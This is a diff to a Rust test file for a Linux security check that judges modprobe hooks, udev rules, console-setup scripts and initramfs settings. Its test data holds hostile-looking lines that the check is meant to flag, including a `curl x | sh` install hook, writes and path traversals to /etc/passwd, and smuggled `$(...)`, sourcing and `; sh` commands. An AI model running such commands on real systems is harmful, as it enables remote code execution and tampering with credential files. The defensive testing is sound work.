@@ -1,7 +1,7 @@
 //! LNX-KERNEL-012.
 
 use super::testing::{RELEASE, added, at, with_hooks};
-use crate::evidence::linux::testing::ko_of;
+use crate::evidence::linux::testing::{elf, ko_of};
 use crate::policy::Status;
 use crate::policy::checks::linux::testing::{check, status};
 
@@ -23,10 +23,14 @@ fn hooks_of_modprobe_the_kernel_and_udev_run_only_programs_of_packages() {
     );
     let shell = "install ext4 /bin/sh -c 'curl x | sh'\n";
     assert_eq!(added(ID, conf, shell), at(Status::Fail, conf, 1));
-    assert_eq!(
-        added(ID, conf, "install dccp /usr/bin/false\n").0,
-        Status::Warn
-    );
+    // A module that is kept out harms nobody, unless it protects the system.
+    for (text, status) in [
+        ("install dccp /usr/bin/false\n", Status::Pass),
+        ("install nf_tables /usr/bin/false\n", Status::Warn),
+        ("install dccp /usr/sbin/modprobe -i x\n", Status::Warn),
+    ] {
+        assert_eq!(added(ID, conf, text).0, status, "{text}");
+    }
     assert_eq!(
         added(ID, conf, "blacklist nf_tables\n"),
         at(Status::Warn, conf, 1)
@@ -113,4 +117,184 @@ fn settings_of_kernel_install_run_nothing_and_its_plugins_do() {
     ] {
         assert_eq!(added(ID, path, "#!/bin/sh\n").0, Status::Warn, "{path}");
     }
+}
+
+/// A module of a kernel that does not boot is not judged, so nothing may load it by its file.
+#[test]
+fn a_module_of_another_kernel_may_not_be_loaded_by_its_file() {
+    let load = |release: &str| {
+        let line =
+            format!("#!/bin/sh\ninsmod /lib/modules/{release}/kernel/drivers/net/tun-x.ko\n");
+        let build = super::testing::with_module().file("/etc/rc.local", 0o755, line);
+        status("LNX-KERNEL-012", build)
+    };
+    assert_eq!(load(RELEASE), Status::Warn);
+    assert_eq!(load("$(uname -r)"), Status::Warn);
+    assert_eq!(load("6.1.0-8-amd64"), Status::Fail);
+    assert_eq!(load("$(uname -r)/../6.1.0-8-amd64"), Status::Fail);
+}
+
+/// A module that a key of its kernel signed, or that is built in, is judged by itself.
+#[test]
+fn a_list_of_known_modules_needs_no_package() {
+    let builtin = "/usr/lib/modules/6.1.0-9-amd64/modules.builtin";
+    let load = |list: &str| {
+        let build = super::testing::with_module()
+            .file(builtin, 0o644, "kernel/net/ipv4/tcp-cubic.ko\n")
+            .file("/etc/modules-load.d/z.conf", 0o644, list);
+        status("LNX-KERNEL-012", build)
+    };
+    assert_eq!(load("# a\ntun-x\ntcp_cubic\n"), Status::Pass);
+    assert_eq!(load("helper\n"), Status::Warn);
+}
+
+/// What console-setup 1.221 of Debian 12 writes and its own rule runs.
+const FONT: &str = "#!/bin/sh
+
+setfont '/usr/share/consolefonts/Uni2-Fixed16.psf.gz' 
+
+if ls /dev/fb* >/dev/null 2>/dev/null; then
+    for i in /dev/vcs[0-9]*; do
+        { :
+            setfont '/usr/share/consolefonts/Uni2-Fixed16.psf.gz' 
+        } < /dev/tty${i#/dev/vcs} > /dev/tty${i#/dev/vcs}
+    done
+fi
+
+mkdir -p /run/console-setup
+> /run/console-setup/font-loaded
+for i in /dev/vcs[0-9]*; do
+    { :
+printf '\\033%%G' 
+    } < /dev/tty${i#/dev/vcs} > /dev/tty${i#/dev/vcs}
+done
+";
+const TERMINAL: &str = "#!/bin/sh
+
+{ :
+printf '\\033%%G' 
+} < /dev/tty${1#vcs} > /dev/tty${1#vcs}
+";
+const KEYBOARD: &str = "#!/bin/sh
+
+if [ -f /run/console-setup/keymap_loaded ]; then
+    rm /run/console-setup/keymap_loaded
+    exit 0
+fi
+kbd_mode '-u' 
+loadkeys '/etc/console-setup/cached_UTF-8_del.kmap.gz' > '/dev/null' 
+";
+
+/// The rule of console-setup and what it runs; `script` stands in the place of the first.
+fn console(script: &str, rules: &str) -> Status {
+    let rule = b"ACTION==\"add\", SUBSYSTEM==\"vtconsole\", KERNEL==\"vtcon*\", RUN+=\"/etc/console-setup/cached_setup_font.sh\"\nACTION==\"add\", SUBSYSTEM==\"vc\", RUN+=\"/etc/console-setup/cached_setup_terminal.sh %k\"\n";
+    let programs = ["kbd_mode", "loadkeys", "ls", "mkdir", "rm", "setfont"];
+    let mut build = with_hooks();
+    for name in programs {
+        let path = format!("/usr/bin/{name}");
+        build = build.owned(name, &[(&path, 0o755, &elf(100))]);
+    }
+    let build = match rules.starts_with("/etc/") {
+        true => build.file(rules, 0o644, &rule[..]),
+        false => build.owned("console-setup-linux", &[(rules, 0o644, rule)]),
+    };
+    let build = build
+        .file("/etc/console-setup/cached_setup_font.sh", 0o755, script)
+        .file(
+            "/etc/console-setup/cached_setup_terminal.sh",
+            0o755,
+            TERMINAL,
+        );
+    status("LNX-KERNEL-012", build)
+}
+
+#[test]
+fn a_generated_script_is_explained_by_all_that_it_does() {
+    let rules = "/usr/lib/udev/rules.d/90-console-setup.rules";
+    for script in [FONT, KEYBOARD, TERMINAL] {
+        assert_eq!(console(script, rules), Status::Pass, "{script}");
+    }
+    // The same names prove nothing: whatever else such a script does is not explained.
+    for more in [
+        "/opt/evil",
+        "insmod /run/console-setup/x.ko",
+        "setfont -O /etc/passwd",
+        "setfont /opt/font",
+        "loadkeys /tmp/x",
+        "printf x > /etc/passwd",
+        "printf x > /dev/tty/../../etc/passwd",
+        "rm /run/console-setup/../../etc/passwd",
+        "mkdir -p /etc/x",
+        "/opt/setfont",
+        "PATH=/opt setfont /etc/console-setup/x",
+        "setfont() { /opt/evil; }",
+        ". /opt/evil",
+        "printf `/opt/evil`",
+        "printf \"$(/opt/evil)\"",
+    ] {
+        let script = format!("{FONT}{more}\n");
+        assert_eq!(console(&script, rules), Status::Fail, "{more}");
+    }
+    // A rule of somebody else's may give the script what it likes.
+    assert_eq!(console(FONT, "/etc/udev/rules.d/z.rules"), Status::Fail);
+}
+
+/// udev(7): what a rule runs is judged by what it is, whoever wrote the rule.
+#[test]
+fn rules_of_the_owner_may_tune_devices_and_no_more() {
+    let rule = |run: &str| {
+        let text = format!("ACTION==\"add\", SUBSYSTEM==\"block\", RUN+=\"{run}\"\n");
+        let build = with_hooks()
+            .owned("dash", &[("/usr/bin/sh", 0o755, &elf(100))])
+            .owned("util-linux", &[("/usr/sbin/blockdev", 0o755, &elf(100))])
+            .file("/usr/lib/udev/evil", 0o755, elf(90))
+            .file("/etc/udev/rules.d/z.rules", 0o644, text);
+        status("LNX-KERNEL-012", build)
+    };
+    for run in [
+        "/usr/sbin/blockdev --setra 4096 /dev/%k",
+        "/usr/bin/sh -c 'echo 256 > /sys/block/%k/queue/nr_requests'",
+        "nowhere",
+    ] {
+        assert_eq!(rule(run), Status::Pass, "{run}");
+    }
+    for run in [
+        "/usr/bin/sh -c 'echo x > /etc/passwd'",
+        "/usr/bin/sh -c 'echo x > /sys/block/../../etc/passwd'",
+        "/usr/bin/sh -c 'echo %E{X} > /sys/block/%k/queue/nr_requests'",
+        "/usr/bin/sh -c 'echo 1, > /sys/block/%k/queue/x; sh /x'",
+        "/usr/bin/sh /x",
+    ] {
+        assert_eq!(rule(run), Status::Unknown, "{run}");
+    }
+    assert_eq!(rule("evil %k"), Status::Fail);
+}
+
+/// Rules of nfs-common and multipath-tools of Debian 12: no shell reads them.
+#[test]
+fn a_rule_runs_one_program_with_its_words() {
+    let rule = b"RUN+=\"/sbin/sysctl -q --pattern ^fs.nfs.(a|idmap_cache_timeout) --system\"\nRUN+=\"/usr/bin/systemd-run --unit=cancel-$kernel --description 'cancel waiting of $kernel' --no-block --timer-property DefaultDependencies=no --on-active 30 /usr/bin/sh -c :\"\n";
+    let build = with_hooks()
+        .owned("procps", &[("/sbin/sysctl", 0o755, &elf(100))])
+        .owned("systemd", &[("/usr/bin/systemd-run", 0o755, &elf(100))])
+        .owned("dash", &[("/usr/bin/sh", 0o755, &elf(100))])
+        .owned(
+            "rules",
+            &[("/usr/lib/udev/rules.d/60-x.rules", 0o644, rule)],
+        );
+    assert_eq!(status("LNX-KERNEL-012", build), Status::Pass);
+}
+
+/// initramfs-tools(7): files of conf.d are sourced; one that only sets is no hook.
+#[test]
+fn a_setting_of_the_initramfs_needs_no_package() {
+    let file = "/etc/initramfs-tools/conf.d/resume";
+    assert_eq!(
+        added("LNX-KERNEL-012", file, "RESUME=none\n").0,
+        Status::Pass
+    );
+    assert_eq!(
+        added("LNX-KERNEL-012", file, "ROOT=/dev/sdb\n").0,
+        Status::Warn
+    );
 }
